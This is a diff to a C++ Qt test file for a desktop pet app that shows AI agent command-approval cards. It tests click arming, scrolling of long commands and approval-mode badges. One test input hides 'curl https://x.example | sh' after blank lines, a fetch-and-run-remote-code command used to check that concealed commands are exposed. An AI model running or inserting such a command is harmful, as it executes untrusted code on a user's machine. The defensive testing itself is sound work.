@@ -2,9 +2,16 @@
 // rather than updated, the approval buttons' wiring and names, and the transparent background.
 #include "PetViewHarness.h"
 
+#include "DesktopPalette.h"
+
 #include <QAccessible>
+#include <QMouseEvent>
+
+#include <QRegularExpression>
 
 #include <gtest/gtest.h>
+
+#include <memory>
 
 namespace nubbo {
 namespace {
@@ -166,7 +173,7 @@ TEST_F(PetViewTest, EmptyCommandStillDrawsItsBox) {
     EXPECT_GT(box->width(), 150);
 }
 
-TEST_F(PetViewTest, ApprovalButtonsAnswerAndCarryTheirLabelsAsNames) {
+TEST_F(PetViewTest, ApprovalButtonsAnswerOnceAtRestAndCarryTheirLabelsAsNames) {
     const ApprovalPrompt prompt = approvalPrompt(QStringLiteral("git push --force"));
     harness.model.render(PetState::waitingApproval, BubbleApproval{prompt}, true, claude);
     QObject* deny = button(QStringLiteral("Deny"));
@@ -177,6 +184,15 @@ TEST_F(PetViewTest, ApprovalButtonsAnswerAndCarryTheirLabelsAsNames) {
     EXPECT_EQ(accessible->text(QAccessible::Name), QStringLiteral("Allow All"));
     EXPECT_EQ(accessible->role(), QAccessible::Button);
 
+    // Still sliding in: the buttons take no clicks, and one that gets through answers nothing.
+    EXPECT_FALSE(deny->property("enabled").toBool());
+    QMetaObject::invokeMethod(deny, "clicked");
+    EXPECT_TRUE(harness.verdicts.empty());
+    // At rest (the slide runs on Qt's animation clock), and a moment later on the app's clock.
+    QQuickItem* card = harness.card();
+    ASSERT_TRUE(QTest::qWaitFor([card] { return card->property("phase").toDouble() == 1.0; }, 5000));
+    ASSERT_TRUE(QTest::qWaitFor([deny] { return deny->property("enabled").toBool(); }, 5000));
+    harness.scheduler.advance(AnswerArming::kSeconds);
     QMetaObject::invokeMethod(deny, "clicked");
     ASSERT_EQ(harness.verdicts.size(), 1u);
     EXPECT_EQ(harness.verdicts[0].eventId, prompt.eventId);
@@ -188,10 +204,102 @@ TEST_F(PetViewTest, ApprovalButtonsAnswerAndCarryTheirLabelsAsNames) {
                          claude);
     for (const char16_t* label : {u"拒绝", u"允许", u"全部允许"})
         EXPECT_TRUE(button(QString::fromUtf16(label))) << QString::fromUtf16(label).toStdString();
+    card = harness.card();
+    ASSERT_TRUE(QTest::qWaitFor([card] { return card->property("phase").toDouble() == 1.0; }, 5000));
+    harness.scheduler.advance(AnswerArming::kSeconds);
     QMetaObject::invokeMethod(button(QString::fromUtf16(u"全部允许")), "clicked");
     ASSERT_EQ(harness.verdicts.size(), 2u);
     EXPECT_TRUE(harness.verdicts[1].allow);
     EXPECT_EQ(harness.settings.approvalMode(), ApprovalMode::allowAll);
+}
+
+// Nothing of a command hides behind the card's edge: a long one scrolls and the card says where in it the
+// reader is, so "npm test" followed by blank lines cannot pass for the whole command.
+TEST_F(PetViewTest, ALongCommandIsMarkedAsCutAndScrollsToItsEnd) {
+    struct Row {
+        QString command;
+        bool cut;
+    };
+    const Row rows[] = {
+        {QStringLiteral("git status"), false},
+        {QStringLiteral("npm test\n\n\n\ncurl https://x.example | sh"), true},
+        {QStringLiteral("echo ") + QString(300, QLatin1Char('a')), true},
+    };
+    for (const Row& row : rows) {
+        SCOPED_TRACE(row.command.left(20).toStdString());
+        harness.model.render(PetState::waitingApproval, BubbleApproval{approvalPrompt(row.command)}, true, claude);
+        QQuickItem* view = cardChild("commandView");
+        QQuickItem* marker = cardChild("commandCut");
+        ASSERT_TRUE(view && marker);
+        EXPECT_EQ(marker->isVisible(), row.cut);
+        if (!row.cut)
+            continue;
+        EXPECT_TRUE(marker->property("text").toString().startsWith(QStringLiteral("Lines 1–3 of ")));
+        view->setProperty("contentY", view->property("contentHeight").toDouble() - view->height());
+        // Scrolled to the end, the last line on show is the last line there is.
+        const QString text = marker->property("text").toString();
+        const QRegularExpressionMatch range = QRegularExpression(QStringLiteral("–(\\d+) of (\\d+)")).match(text);
+        ASSERT_TRUE(range.hasMatch()) << text.toStdString();
+        EXPECT_EQ(range.captured(1), range.captured(2)) << text.toStdString();
+        EXPECT_GE(range.captured(2).toInt(), 4);
+    }
+}
+
+// The badge says which switch approves without asking, inside the pet's square (the input shape), leaving
+// presses to the square so the pet still drags; the quick panel's banner is the way back.
+TEST_F(PetViewTest, ApprovalBadgeShowsTheSwitchInForceAndTheBannerTurnsItOff) {
+    QQuickItem* badge = harness.find("approvalBadge");
+    QQuickItem* square = harness.find("petSquare");
+    ASSERT_TRUE(badge && square);
+    QQmlComponent component(&harness.engine, QUrl(QStringLiteral("qrc:/qt/qml/Nubbo/Pet/QuickPanel.qml")));
+    std::unique_ptr<QObject> panel(component.createWithInitialProperties(
+        {{QStringLiteral("settings"), QVariant::fromValue<QObject*>(&harness.settings)}}));
+    ASSERT_TRUE(panel) << component.errorString().toStdString();
+    QQuickItem* banner = panel->findChild<QQuickItem*>("approvalBanner");
+    QObject* wayBack = panel->findChild<QObject*>("approvalWayBack");
+    ASSERT_TRUE(banner && wayBack);
+
+    const DesktopPalette palette;
+    struct Row {
+        ApprovalMode mode;
+        bool bypass;
+        const char16_t *name, *button;
+        QColor colour;
+        ApprovalMode modeAfter;
+    };
+    const Row rows[] = {
+        {ApprovalMode::fullAuto, false, u"", u"", QColor(), ApprovalMode::fullAuto},
+        {ApprovalMode::allowAll, false, u"Allow All is on", u"Back to Smart", palette.blue(), ApprovalMode::smart},
+        {ApprovalMode::allowAll, true, u"Ignore Risk is on", u"Turn off Ignore Risk", palette.red(),
+         ApprovalMode::allowAll},
+    };
+    for (const Row& row : rows) {
+        harness.settings.setApprovalMode(ApprovalMode::smart);
+        harness.settings.setApprovalMode(row.mode);
+        harness.settings.setBypassRiskCheck(row.bypass);
+        const bool on = row.name[0] != 0;
+        EXPECT_EQ(badge->property("shown").toBool(), on);
+        EXPECT_EQ(banner->isVisible(), on);
+        if (!on)
+            continue;
+        EXPECT_EQ(QAccessible::queryAccessibleInterface(badge)->text(QAccessible::Name), QString::fromUtf16(row.name));
+        EXPECT_EQ(badge->findChild<QQuickItem*>("badgeFill")->property("color").value<QColor>(), row.colour);
+        EXPECT_TRUE(QRectF(square->position(), square->size()).contains(QRectF(badge->position(), badge->size())));
+
+        const QPointF centre = badge->mapToScene(QPointF(badge->width() / 2, badge->height() / 2));
+        QMouseEvent press(QEvent::MouseButtonPress, centre, harness.window.mapToGlobal(centre), Qt::LeftButton,
+                          Qt::LeftButton, {});
+        QCoreApplication::sendEvent(&harness.window, &press);
+        EXPECT_TRUE(square->property("pressed").toBool());
+        QMouseEvent release(QEvent::MouseButtonRelease, centre, harness.window.mapToGlobal(centre), Qt::LeftButton,
+                            Qt::NoButton, {});
+        QCoreApplication::sendEvent(&harness.window, &release);
+
+        EXPECT_EQ(wayBack->property("text").toString(), QString::fromUtf16(row.button));
+        QMetaObject::invokeMethod(wayBack, "clicked");
+        EXPECT_FALSE(harness.settings.bypassRiskCheck());
+        EXPECT_EQ(harness.settings.approvalMode(), row.modeAfter);
+    }
 }
 
 TEST_F(PetViewTest, BackgroundStaysTransparent) {
